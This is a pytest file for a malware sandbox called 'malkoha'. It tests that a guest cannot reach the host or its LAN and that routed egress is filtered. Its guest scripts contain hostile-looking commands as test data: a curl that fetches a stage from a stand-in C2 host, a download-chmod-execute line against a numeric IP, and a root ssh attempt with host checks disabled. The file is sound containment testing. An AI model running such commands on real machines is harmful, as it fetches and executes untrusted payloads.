"""A real guest tries to get out: in the simulated internet, and on a route that leads to hosts of our own."""

from __future__ import annotations

import os
import uuid
from pathlib import Path

import pytest

from malkoha.network.route import WAYS
from tests import escapes, witnesses, worlds
from tests.live.commandline import Malkoha, script

pytestmark = [
    pytest.mark.live,
    pytest.mark.skipif(not worlds.possible(), reason="this user makes no named network namespaces"),
]

CARD = "next(name for name in __import__('os').listdir('/sys/class/net') if name != 'lo')"

OUT = """cd /tmp
curl -sS -m 60 http://c2.example.org/stage
curl -sS -m 60 http://lan.example/ || echo private $?
curl -sS -m 60 http://{other}:25/ || echo mail $?
curl -sS -m 60 http://{other}:81/ || echo closed $?
ping -c 1 -W 1 {address} >ping.txt || echo ping $?
"""


def attempts(marker: str, made: witnesses.Witnesses) -> str:
    """Return lines of a shell script that run the escapes."""
    program = escapes.program(marker.encode(), made.port, made.addresses, CARD)
    return f"cat >escape.py <<'EOF'\n{program}EOF\npython3 escape.py\n"


def test_nothing_that_a_guest_sends_gets_to_the_host_or_its_lan(malkoha: Malkoha, tmp_path: Path) -> None:
    marker = uuid.uuid4().hex
    with witnesses.witnesses(marker.encode()) as made:
        analysis = malkoha.analyze(script(tmp_path, "cd /tmp\n" + attempts(marker, made)), "--timeout", "200")
    assert analysis.stdout == b"tried everything\n"
    assert marker.encode() in analysis.store.pcap.read_bytes()
    assert (made.heard, made.seen) == ([], [])
    assert analysis.own["network"]["mode"] == analysis.report["info"]["route"] == "sim"
    assert analysis.own["network"]["egress"] is None


PLAIN = """cd /tmp
curl -sS -m 60 https://secure.example.net/a.txt
wget -q -T 60 -O - http://www.example.org/b.txt
ping -c 2 -W 20 www.360.com >ping.txt && echo two answers
curl -sS -m 60 -o stage http://198.51.100.7/bins/x86_64; chmod +x stage; ./stage
ssh -o StrictHostKeyChecking=no -o BatchMode=no -o NumberOfPasswordPrompts=0 -o ConnectTimeout=60 root@203.0.113.8 id
"""


def test_without_namespaces_a_plainer_internet_answers_and_keeps_the_guest_in(malkoha: Malkoha, tmp_path: Path) -> None:
    marker = uuid.uuid4().hex
    never = tmp_path / "bin"
    never.mkdir()
    (never / "unshare").write_text("#!/bin/sh\necho unshare: not permitted >&2\nexit 1\n")
    (never / "unshare").chmod(0o755)
    with witnesses.witnesses(marker.encode()) as made:
        done = malkoha.run(
            *("analyze", "--json", "--no-open", "--timeout", "200", "--"),
            script(tmp_path, PLAIN + attempts(marker, made)),
            PATH=f"{never}:{os.environ['PATH']}",
        )
    analysis = malkoha.told(done)
    assert (made.heard, made.seen) == ([], [])
    said = analysis.stdout.decode().splitlines()
    assert said == ["ok", "ok", "two answers", "second stage", "tried everything"]
    facts = analysis.own["network"]
    assert (facts["mode"], facts["way"]) == ("sim", WAYS["frames"])
    assert "unshare: not permitted" in facts["remarks"][0]
    assert facts["remarks"][0] in analysis.own["errors"]
    services = {session["service"] for session in analysis.report["network"]["sessions"]}
    assert {"http", "ssh", "sink"} <= services


def test_a_route_leads_where_it_may_and_nowhere_else(malkoha: Malkoha, tmp_path: Path) -> None:
    marker = uuid.uuid4().hex
    with worlds.world(tmp_path) as world, witnesses.witnesses(marker.encode()) as made:
        text = OUT.format(other=worlds.OTHER, address=worlds.ADDRESS) + attempts(marker, made)
        done = malkoha.run(
            *("analyze", "--json", "--no-open", "--network", "internet", "--timeout", "200", "--"),
            script(tmp_path, text),
            MALKOHA_ROUTES_INTERNET=f"namespace:{world.route}",
            MALKOHA_ROUTES_RESOLVER=worlds.RESOLVER,
        )
        analysis = malkoha.told(done)
        heard = world.heard()
    assert (made.heard, made.seen) == ([], [])
    said = analysis.stdout.decode().splitlines()
    assert said == ["from the world", "private 7", "mail 7", "closed 7", "ping 1", "tried everything"]
    assert [(entry[1], entry[2]) for entry in heard if entry[0] == "tcp"] == [(worlds.ADDRESS, 80)]
    facts = analysis.own["network"]
    assert analysis.report["info"]["route"] == facts["mode"] == "internet"
    assert facts["way"].endswith(f"forwarded through namespace {world.route}")
    egress = facts["egress"]
    assert egress["flows"] == 2
    assert egress["received"] > egress["sent"] > 0
    assert (egress["blocked"]["port 25"], egress["limits"]) == (1, {})
    assert egress["blocked"]["private or reserved range"] > 10
    assert egress["blocked"]["icmp"] > 10
    (fetched,) = [each for each in analysis.report["network"]["http"] if each["host"] == "c2.example.org"]
    assert fetched["cause"]["process_name"] == "curl"
    refused = {(each["dst"], each["dport"]) for each in analysis.report["network"]["sessions"] if each["steps"]}
    assert {(worlds.LAN, 80), (worlds.OTHER, 25), (worlds.OTHER, 81)} <= refused


def test_a_route_that_is_not_set_up_is_refused_before_anything_is_kept(malkoha: Malkoha, tmp_path: Path) -> None:
    before = len(malkoha.tasks())
    done = malkoha.run("analyze", "--network", "tor", "--", script(tmp_path, "true\n"))
    assert done.status == 2
    assert "the network tor is not set up on this machine" in done.last_line
    assert len(malkoha.tasks()) == before
